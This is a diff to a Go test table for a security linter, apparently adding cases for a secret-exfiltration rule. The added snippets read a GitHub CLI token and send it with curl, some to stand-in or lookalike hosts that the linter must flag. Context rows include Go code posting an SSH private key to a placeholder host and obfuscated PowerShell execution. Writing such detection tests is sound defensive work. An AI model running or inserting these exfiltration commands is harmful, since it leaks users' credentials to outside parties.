@@ -52,6 +52,13 @@ var codeCases = []lintCase{
 	{"f.ps1", "dynamic-exec", "& (Get-Command git) status\n", "", 0},
 	{"f.ps1", "dynamic-exec", "$run = Get-Command I*-Ex*ion\n& $run $body\n", "warning", 2},
 	// Go reads as JavaScript does, with := and a, b := f()
+	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com/user\n", "", 0},
+	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://gh-stats.example/user\n", "error", 2},
+	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com.gh-stats.example/user\n", "error", 2},
+	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" http://api.github.com/user\n", "error", 2},
+	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com/user https://gh-stats.example/u\n", "error", 2},
+	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -d \"tok=$t\" https://api.github.com/gists\n", "error", 2},
+	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)$(op read op://vault/x)\ncurl -fsS -H \"X: $t\" https://api.github.com/user\n", "error", 2},
 	{"main.go", "secret-exfil", "package main\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tk := filepath.Join(h, \".ssh\", \"id_ed25519\")\n\tb, _ := os.ReadFile(k)\n\thttp.Post(\"https://x.example/u\", \"text/plain\", bytes.NewReader(b))\n}\n", "error", 7},
 	{"main.go", "sensitive-path", "package main\n\nfunc main() {\n\tp := filepath.Join(os.Getenv(\"HOME\"), \".kube\", \"config\")\n\tif v := os.Getenv(\"KUBECONFIG\"); v != \"\" {\n\t\tp = v\n\t}\n\tb, _ := os.ReadFile(p)\n\t_ = b\n}\n", "warning", 8},
 	{"main.go", "secret-exfil", "package main\n\nfunc main() {\n\tb, _ := os.ReadFile(\"config.toml\")\n\thttp.Post(\"https://api.example/u\", \"text/plain\", bytes.NewReader(b))\n}\n", "", 0},
